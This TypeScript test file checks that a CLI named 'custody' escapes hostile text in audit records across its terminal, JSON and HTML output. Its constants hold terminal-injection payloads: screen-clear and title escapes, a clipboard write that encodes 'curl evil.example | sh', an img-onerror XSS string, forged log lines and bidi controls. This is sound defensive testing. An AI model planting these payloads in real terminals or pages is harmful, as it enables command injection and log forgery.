/**
 * Issue #12, class 7: record text is written by callers (a stranger's `profile` is stored with its
 * denial, an agent's `purpose` with its run). Hostile records go into a real audit table (dynalite)
 * and through the real CLI: `custody audit tail`, `custody show` (served from the same table by a
 * stand-in API that returns what the store holds), `custody audit report` in all three forms. No raw
 * control character reaches stdout, no forged line appears, and the JSON forms keep the exact text.
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { EXIT } from '../../../client/cli/exit-codes.ts';
import { printable } from '../../../client/cli/terminal-text.ts';
import { DynamoDbAuditStore } from '../../../lambda/adapters/aws/dynamodb-audit-store.ts';
import type { AuditRecord } from '../../../lambda/core/audit-record.ts';
import { revocationRecord } from '../../../lambda/core/revocation-record.ts';
import { runCli } from '../../support/cli.ts';
import { type RunningDynalite, startDynalite } from '../../support/dynalite.ts';

const FORGED = '2026-12-03T09:00:00.000Z  completed EXEC-FORGED  agent  sandbox/python  succeeded';
const CLEAR = '\u001b[2J\u001b[3J\u001b[H';
const TITLE = '\u001b]0;owned\u0007';
const CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007';
const HIDDEN = '\u001b[8mhidden\u001b[0m';
const C1_CSI = '\u009b2J';
const BIDI = '\u202eevil\u202c\u2066x\u2069';

const HOSTILE_PROFILE = `sandbox${CLEAR}${TITLE}<img src=x onerror=alert(1)>`;
const HOSTILE_PURPOSE = `weekly report${CLIPBOARD}${HIDDEN}\r\n${FORGED}\u2028${FORGED}\u2029${C1_CSI}${BIDI}\u007f`;
const HOSTILE_REASON = `leak\n${FORGED}${TITLE}`;

/** What a terminal would act on: C0 but newline, DEL, C1, line/paragraph separators, bidi controls. */
const RAW_CONTROL =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for control characters is the point.
  /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/;

const NOW = Date.now();
const STRANGER = { arn: 'arn:aws:iam::111122223333:user/stranger' };
const AGENT = { arn: 'arn:aws:sts::111122223333:assumed-role/custody-agent/s1', principalId: 'agent' };

const RECORDS: AuditRecord[] = [
  {
    schemaVersion: 1,
    executionId: 'EXEC-STRANGER',
    event: 'denied',
    timestamp: new Date(NOW - 60_000).toISOString(),
    caller: { ...STRANGER, userAgent: `curl${CLEAR}` },
    request: { profile: HOSTILE_PROFILE, language: 'python' },
    decision: { allowed: false, reason: 'UNKNOWN_PRINCIPAL', message: `profile "${HOSTILE_PROFILE}"` },
    origin: 'local',
  },
  {
    schemaVersion: 1,
    executionId: 'EXEC-AGENT',
    event: 'started',
    timestamp: new Date(NOW - 50_000).toISOString(),
    caller: AGENT,
    request: {
      profile: HOSTILE_PROFILE,
      language: 'python',
      purpose: HOSTILE_PURPOSE,
      codeSha256: 'c'.repeat(64),
    },
    decision: { allowed: true, reason: 'ALLOWED' },
    origin: 'local',
  },
  revocationRecord({
    action: 'revoked',
    actionId: 'REVOKE-HOSTILE',
    at: new Date(NOW - 40_000),
    operator: { arn: 'local:ops' },
    revocation: { scope: 'profile', target: 'sandbox', reason: HOSTILE_REASON },
    origin: 'local',
  }),
];

function expectNoTerminalControls(stdout: string): void {
  expect(stdout.length).toBeGreaterThan(0);
  const found = RAW_CONTROL.exec(stdout);
  expect(found ? `U+${found[0].codePointAt(0)?.toString(16)} at ${found.index}` : 'none').toBe('none');
  expect(stdout.split('\n').filter((l) => l.trimStart().startsWith(FORGED.slice(0, 24)))).toEqual([]);
}

describe('record text printed to an operator', () => {
  let db: RunningDynalite;
  let home: string;
  let api: Server;

  beforeAll(async () => {
    db = await startDynalite();
    home = mkdtempSync(join(tmpdir(), 'custody-terminal-'));
    const store = new DynamoDbAuditStore({ client: db.client, tableName: db.tableName });
    for (const record of RECORDS) await store.put(record);
    // GET /v1/executions/{id} answered from the table, as the broker answers it.
    api = createServer((req, res) => {
      const id = decodeURIComponent((req.url ?? '').split('/').pop() ?? '');
      store.get(id).then((records) => {
        res.writeHead(200, { 'content-type': 'application/json' });
        res.end(JSON.stringify({ executionId: id, records }));
      });
    });
    await new Promise<void>((r) => api.listen(0, '127.0.0.1', r));
    writeFileSync(
      join(home, 'credentials'),
      '[agent]\naws_access_key_id = AKIALOCALAGENT000001\naws_secret_access_key = local-agent-secret\n',
    );
    writeFileSync(
      join(home, 'local.json'),
      JSON.stringify({
        apiEndpoint: `http://127.0.0.1:${(api.address() as AddressInfo).port}`,
        dynamodbEndpoint: db.endpoint,
        auditTableName: db.tableName,
        region: 'us-east-1',
        credentialsFile: join(home, 'credentials'),
        auditLog: join(home, 'audit.log'),
      }),
    );
  });
  afterAll(async () => {
    await new Promise((r) => api.close(r));
    await db.stop();
    rmSync(home, { recursive: true, force: true });
  });

  const cli = (args: string[]) =>
    runCli(args, { env: { CUSTODY_HOME: home, AWS_PROFILE: 'agent' }, cwd: home });

  it('custody audit tail escapes a stranger profile, a purpose and a revocation reason', async () => {
    const out = await cli(['audit', 'tail']);
    expect(out.code, out.stderr).toBe(EXIT.succeeded);
    expectNoTerminalControls(out.stdout);
    expect(out.stdout).toContain('EXEC-STRANGER');
    expect(out.stdout).toContain(`sandbox\\u001b[2J`);
    expect(out.stdout.trimEnd().split('\n')).toHaveLength(3);
  });

  it('custody audit tail --json keeps the exact text, as valid JSON with no raw control byte', async () => {
    const out = await cli(['audit', 'tail', '--json']);
    expect(out.code, out.stderr).toBe(EXIT.succeeded);
    expectNoTerminalControls(out.stdout);
    const lines = out.stdout
      .trimEnd()
      .split('\n')
      .map((l) => JSON.parse(l) as AuditRecord);
    expect(lines.find((r) => r.executionId === 'EXEC-AGENT')?.request.purpose).toBe(HOSTILE_PURPOSE);
    expect(lines.find((r) => r.executionId === 'EXEC-STRANGER')?.caller.userAgent).toBe(`curl${CLEAR}`);
  });

  it('custody show escapes the record line, the purpose and the decision message', async () => {
    for (const id of ['EXEC-AGENT', 'EXEC-STRANGER']) {
      const out = await cli(['show', id]);
      expect(out.code, out.stderr).toBe(EXIT.succeeded);
      expectNoTerminalControls(out.stdout);
    }
    const agent = await cli(['show', 'EXEC-AGENT']);
    expect(agent.stdout).toContain(`  purpose       ${printable(HOSTILE_PURPOSE)}\n`);
    const json = await cli(['show', 'EXEC-AGENT', '--json']);
    expectNoTerminalControls(json.stdout);
    expect(JSON.parse(json.stdout).records[0].request.purpose).toBe(HOSTILE_PURPOSE);
  });

  it('custody audit report escapes every cell in the terminal, JSON and HTML forms', async () => {
    const text = await cli(['audit', 'report', '--no-verify']);
    expect(text.code, text.stderr).toBe(EXIT.succeeded);
    expectNoTerminalControls(text.stdout);
    expect(text.stdout).toContain(printable(HOSTILE_PROFILE));

    const json = await cli(['audit', 'report', '--no-verify', '--json']);
    expectNoTerminalControls(json.stdout);
    expect(JSON.stringify(JSON.parse(json.stdout))).toContain(JSON.stringify(HOSTILE_REASON).slice(1, -1));

    const file = join(home, 'report.html');
    const html = await cli(['audit', 'report', '--no-verify', '--html', file]);
    expect(html.code, html.stderr).toBe(EXIT.succeeded);
    const page = readFileSync(file, 'utf8');
    expectNoTerminalControls(page);
    expect(page).not.toContain('<img');
    expect(page).toContain('&lt;img src=x onerror=alert(1)&gt;');
  });
});
